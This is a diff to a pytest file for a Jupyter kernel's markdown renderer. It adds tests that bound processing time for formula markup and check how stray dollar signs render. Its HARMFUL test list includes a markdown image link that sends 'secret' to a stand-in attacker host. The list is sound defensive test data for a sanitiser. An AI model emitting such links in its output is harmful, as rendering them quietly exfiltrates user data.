@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import json
 import re
+import time
+from collections.abc import Callable
 from html import unescape
 from html.parser import HTMLParser
 from pathlib import Path
@@ -12,7 +14,7 @@ import pytest
 
 from navi_jupyter.kernel.display import markdown
 from navi_jupyter.kernel.display.markdown import AS_TEXT, MAX_DEPTH, MAX_SIGNS, MAX_TEXT, is_safe, to_html
-from navi_jupyter.markdown_text import closed, defused, without_marks
+from navi_jupyter.markdown_text import closed, defused, with_plain_dollars, without_marks
 
 HARMFUL = [
     "![x](http://evil.example/?q=secret)",
@@ -220,6 +222,20 @@ def test_a_text_that_would_take_long_or_nest_deep_is_shown_within_bounds(name: s
     assert len(html) < 20 * len(text) + 3_000_000
     if not set(text) <= set("*_-~` \n") and name not in ("definitions", "fences"):  # no words: a rule, or a fence
         assert unescape(re.sub(r"<[^>]*>", "", html)).strip()
+
+
+@pytest.mark.parametrize("write", [to_html, with_plain_dollars], ids=["cell", "notebook"])
+@pytest.mark.parametrize("name", [name for name in HEAVY if "formula" in name])
+def test_marks_that_open_no_formula_are_not_searched_for_ever(write: Callable[[str], object], name: str) -> None:
+    began = time.process_time()
+    write(HEAVY[name])
+    assert time.process_time() - began < 4
+
+
+def test_dollars_behind_many_marks_that_open_no_formula_are_plain() -> None:
+    written = with_plain_dollars("$x$ " + "\\(" * 3000 + " $5")
+    assert written.startswith("$x$ ")
+    assert written.endswith("<span>&#36;</span>5")
 
 
 def test_a_paragraph_with_too_many_signs_is_text_and_its_neighbours_are_markdown() -> None:
